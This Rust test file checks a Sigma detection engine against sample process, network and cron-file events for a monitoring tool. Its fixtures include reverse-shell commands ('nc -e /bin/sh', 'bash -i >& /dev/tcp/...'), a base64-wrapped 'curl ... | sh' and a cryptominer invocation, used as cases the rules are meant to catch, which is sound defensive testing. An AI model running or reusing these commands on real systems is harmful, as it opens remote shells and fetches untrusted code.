//! Sigma rules through the real engine: every served modifier matches its
//! case and nothing else; what is not served is refused by name.
#![allow(clippy::unwrap_used, missing_docs)]

use std::collections::BTreeSet;
use std::net::IpAddr;
use std::path::Path;

use base64::Engine as _;
use collector_core::{
    BootId, ConnectionChange, ConnectionDirection, FileOperation, FilesystemEvent, NetworkEvent,
    NetworkProtocol, ProcessKey,
};
use daemoneye_rules::engine::{Batch, ProcessRow, RuleEngine};
use daemoneye_rules::rules::{self, Rule, Severity};
use daemoneye_store::files::FileEventRow;
use daemoneye_store::network::ConnectionRow;

fn load(name: &str) -> (Vec<Rule>, Vec<rules::RuleError>) {
    rules::load_file(
        &Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/sigma")
            .join(name),
    )
}

fn engine() -> RuleEngine {
    let (ok, bad) = load("served.yml");
    assert!(bad.is_empty(), "refused: {bad:?}");
    assert_eq!(ok.len(), 18);
    let engine = RuleEngine::new(ok).unwrap();
    assert!(engine.refused().is_empty(), "{:?}", engine.refused());
    engine
}

fn key(pid: u32) -> ProcessKey {
    ProcessKey::new(BootId::from_bytes([1; 16]), pid, 1)
}

fn process(pid: u32, exe: &str, argv: &[&str]) -> ProcessRow {
    ProcessRow {
        pid,
        process_key: Some(key(pid).to_string()),
        name: exe.rsplit('/').next().unwrap().chars().take(15).collect(),
        exe: Some(exe.to_owned()),
        argv: argv.iter().map(|a| (*a).to_owned()).collect(),
        uid: Some(1000),
        event_type: "exec".to_owned(),
        parent_exe: Some("/usr/sbin/sshd".to_owned()),
        file_exists: true,
        accessible: true,
        ..ProcessRow::default()
    }
}

/// The ids (less `sigma-0a000001-0000-4000-8000-0000000000`) that fire on
/// `row` alone.
fn fired(engine: &mut RuleEngine, row: &ProcessRow) -> BTreeSet<String> {
    engine
        .evaluate(std::slice::from_ref(row))
        .unwrap()
        .into_iter()
        .map(|m| {
            m.rule_id
                .strip_prefix("sigma-0a000001-0000-4000-8000-0000000000")
                .unwrap_or(&m.rule_id)
                .to_owned()
        })
        .collect()
}

/// The pids that `batch` beside `processes` fires for, each match by
/// `rule` (no other rule fires).
fn pids_fired(
    engine: &mut RuleEngine,
    batch: Batch<'_>,
    processes: &[ProcessRow],
    rule: &str,
) -> BTreeSet<u32> {
    engine
        .evaluate_batch(batch, processes)
        .unwrap()
        .into_iter()
        .map(|m| {
            assert_eq!(m.rule_id, rule);
            m.pid
        })
        .collect()
}

fn only(id: &str) -> BTreeSet<String> {
    BTreeSet::from([id.to_owned()])
}

#[test]
#[allow(clippy::too_many_lines)] // one table of cases
fn every_served_modifier_matches_its_case_and_only_it() {
    let mut e = engine();
    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
    let cases: Vec<(ProcessRow, &str)> = vec![
        (process(10, "/usr/bin/ncat", &["ncat"]), "01"),
        (process(11, "/tmp/a/run1", &["run1"]), "02"),
        (
            process(12, "/usr/bin/nc", &["nc", "10.0.0.1", "-e", "/bin/sh"]),
            "03",
        ),
        (process(13, "/dev/shm/x", &["x"]), "04"),
        (process(14, "/opt/m/xmrig", &["xmrig"]), "05"),
        (
            process(
                15,
                "/opt/m/miner",
                &["miner", "--donate-level", "1", "-o", "stratum+tcp://p:3333"],
            ),
            "06",
        ),
        (
            process(
                16,
                "/bin/bash",
                &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
            ),
            "07",
        ),
        (process(17, "/usr/local/bin/evild", &["evild"]), "08"),
        // The phrase at offset 2 of the encoded text.
        (
            process(
                18,
                "/usr/bin/echo",
                &["echo", &b64("# curl http://x/y | sh")],
            ),
            "09",
        ),
        (
            process(19, "/usr/bin/echo", &["echo", &b64("whoami")]),
            "10",
        ),
        (process(20, "/usr/bin/Sudo", &["Sudo"]), "11"),
        (
            ProcessRow {
                parent_exe: None,
                ..process(21, "/var/tmp/orphan", &["orphan"])
            },
            "12",
        ),
        (process(4_100_000, "/usr/bin/true", &["true"]), "13"),
        (
            ProcessRow {
                uid: Some(0),
                ..process(23, "/usr/bin/id-check", &["id-check"])
            },
            "14",
        ),
        (
            ProcessRow {
                parent_exe: Some("/usr/sbin/nginx".to_owned()),
                ..process(24, "/usr/bin/dash", &["dash"])
            },
            "15",
        ),
        (
            ProcessRow {
                parent_exe: None,
                ..process(25, "/x/null.case", &["null.case"])
            },
            "17",
        ),
        (
            ProcessRow {
                parent_exe: None,
                ..process(26, "/x/other(1)", &["other(1)"])
            },
            "17",
        ),
    ];
    for (row, id) in &cases {
        assert_eq!(fired(&mut e, row), only(id), "case of rule {id}: {row:?}");
    }
    // Near misses fire nothing.
    let misses = [
        process(30, "/usr/bin/ncat2", &["ncat2"]),
        process(31, "/tmp/a/run12", &["run12"]),
        process(32, "/opt/m/miner", &["miner", "--donate-level", "1"]),
        process(33, "/usr/bin/sudo", &["sudo"]),
        ProcessRow {
            parent_exe: None,
            ..process(34, "/var/tmp/orphan", &["orphan", "--benign"])
        },
        process(35, "/var/tmp/orphan", &["orphan"]),
        process(36, "/usr/bin/id-check", &["id-check"]),
        process(37, "/usr/bin/echo", &["echo", "curl http://x"]),
        ProcessRow {
            parent_exe: Some("/usr/sbin/nginx".to_owned()),
            ..process(38, "/usr/bin/zsh", &["zsh"])
        },
        process(39, "/bin/bash", &["bash", "-i"]),
        // The filter holds; `.` is no wildcard.
        process(41, "/x/null.case", &["null.case"]),
        ProcessRow {
            parent_exe: None,
            ..process(42, "/x/nullxcase", &["nullxcase"])
        },
    ];
    for row in &misses {
        assert!(
            fired(&mut e, row).is_empty(),
            "{row:?} fired {:?}",
            fired(&mut e, row)
        );
    }
    // An exited process is not a creation.
    let exited = ProcessRow {
        event_type: "exit".to_owned(),
        ..process(40, "/usr/bin/ncat", &["ncat"])
    };
    assert!(fired(&mut e, &exited).is_empty());
}

#[test]
fn metadata_maps_to_the_rule() {
    let (ok, _) = load("served.yml");
    let contains = ok
        .iter()
        .find(|r| r.id == "sigma-0a000001-0000-4000-8000-000000000003")
        .unwrap();
    assert_eq!(contains.name, "Contains");
    assert_eq!(contains.severity, Severity::High);
    assert_eq!(contains.mitre, ["T1059.004"]);
    assert_eq!(contains.tags, ["sigma", "attack.execution"]);
    assert!(contains.origin.ends_with("served.yml"));
    let first = &ok[0];
    assert_eq!(first.severity, Severity::Low);
    assert_eq!(ok[1].severity, Severity::Medium, "no level: medium");
}

fn connection(pid: u32, to: &str, port: u16, direction: ConnectionDirection) -> ConnectionRow {
    ConnectionRow::new(&NetworkEvent {
        connection_id: u64::from(pid),
        source_addr: Some(IpAddr::from([10, 0, 0, 2])),
        source_port: Some(40_000),
        dest_addr: Some(to.parse().unwrap()),
        dest_port: Some(port),
        protocol: NetworkProtocol::Tcp,
        direction: Some(direction),
        change: Some(ConnectionChange::Opened),
        pid: Some(pid),
        process_key: Some(key(pid)),
        fd: Some(3),
        timestamp: std::time::SystemTime::now(),
        ..NetworkEvent::default()
    })
}

#[test]
fn a_network_rule_matches_by_address_port_and_direction() {
    let mut e = engine();
    let holders: Vec<ProcessRow> = (50..56)
        .map(|pid| process(pid, "/usr/bin/x", &["x"]))
        .collect();
    let out = ConnectionDirection::Outbound;
    let rows = [
        connection(50, "203.0.113.9", 4444, out),
        connection(51, "2001:db8::5", 4444, out),
        connection(52, "::ffff:203.0.113.10", 4444, out),
        // Misses: another network, another port, inbound.
        connection(53, "198.51.100.1", 4444, out),
        connection(54, "203.0.113.9", 4445, out),
        connection(55, "203.0.113.9", 4444, ConnectionDirection::Inbound),
    ];
    let pids = pids_fired(
        &mut e,
        Batch::Network(&rows),
        &holders,
        "sigma-0a000001-0000-4000-8000-000000000016",
    );
    assert_eq!(pids, BTreeSet::from([50, 51, 52]));
}

#[test]
fn what_is_not_served_is_refused_by_name_and_the_rest_loads() {
    let (ok, bad) = load("refused.yml");
    assert_eq!(
        ok.iter().map(|r| r.id.as_str()).collect::<Vec<_>>(),
        ["sigma-0b000001-0000-4000-8000-000000000009"]
    );
    let reason = |n: u32| {
        let id = format!("sigma-0b000001-0000-4000-8000-00000000000{n}");
        bad.iter()
            .find(|e| e.rule == id)
            .unwrap_or_else(|| panic!("{id} not refused: {bad:?}"))
            .reason
            .clone()
    };
    for (n, says) in [
        (1, "modifier `windash` is not served"),
        (2, "keyword selections"),
        (
            3,
            "field `CurrentDirectory` is not served: the working directory is not collected",
        ),
        (4, "aggregations"),
        (5, "product \"windows\""),
        (6, "service \"auditd\""),
        (7, "look-around"),
        (8, "field `Hashes` is not served in process_creation"),
    ] {
        let r = reason(n);
        assert!(r.contains(says), "rule {n}: {r:?} should say {says:?}");
    }
    assert_eq!(bad.len(), 8);
}

#[test]
fn a_file_of_our_own_yaml_rules_is_not_taken_for_sigma() {
    let text = "rule:\n  - id: own\n    name: own\n    severity: low\n    sql: SELECT pid FROM processes\n";
    let (ok, bad) = rules::parse_as(text, "own.yml", rules::Format::Yaml);
    assert!(bad.is_empty(), "{bad:?}");
    assert_eq!(ok[0].id, "own");
}

fn file_event(pid: u32, path: &str, operation: FileOperation) -> FileEventRow {
    let mut e = FilesystemEvent::new(path, operation, std::time::SystemTime::now());
    e.pid = Some(pid);
    e.process_key = Some(key(pid));
    FileEventRow::new(&e)
}

#[test]
fn a_file_rule_matches_the_path_and_its_writer() {
    let mut e = engine();
    let writers = [
        process(60, "/usr/bin/cp", &["cp", "x", "/etc/cron.d/job"]),
        process(61, "/usr/bin/dpkg", &["dpkg", "-i", "x.deb"]),
        process(62, "/usr/bin/cp", &["cp", "x", "/etc/motd"]),
        process(63, "/usr/bin/rm", &["rm", "/etc/cron.d/old"]),
    ];
    let rows = [
        file_event(60, "/etc/cron.d/job", FileOperation::CloseWrite),
        file_event(61, "/etc/cron.d/pkg", FileOperation::CloseWrite),
        file_event(62, "/etc/motd", FileOperation::CloseWrite),
        file_event(63, "/etc/cron.d/old", FileOperation::Delete),
        // A writer procmond has not reported: it still matches, by pid.
        file_event(64, "/etc/cron.d/unknown", FileOperation::Create),
    ];
    let fired = pids_fired(
        &mut e,
        Batch::Files(&rows),
        &writers,
        "sigma-0a000001-0000-4000-8000-000000000018",
    );
    assert_eq!(fired, BTreeSet::from([60, 64]));
}
